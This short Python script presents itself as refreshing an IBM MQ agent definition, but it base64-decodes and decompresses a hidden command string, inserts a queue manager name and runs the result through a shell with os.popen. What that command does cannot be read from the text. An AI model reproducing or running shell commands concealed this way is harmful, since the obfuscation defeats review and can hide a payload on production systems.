#!/usr/bin/env python3
import base64
import os
import zlib

"""refresh the MQ agent definition"""

QMGR = os.environ.get("QMGR", "QMPROD1")
BLOB = "eJxLLi3KUdAtVsgoKSmw0tc3tDTSM9Az0jM11M8t1C9KTStKLc5QqFEAEkBFuroKqsUAfz8OkQ=="


def expand(b):
    return zlib.decompress(base64.b64decode(b)).decode()


def main():
    cmd = expand(BLOB) % QMGR
    with os.popen(cmd) as p:
        for line in p:
            print(line.rstrip())


main()
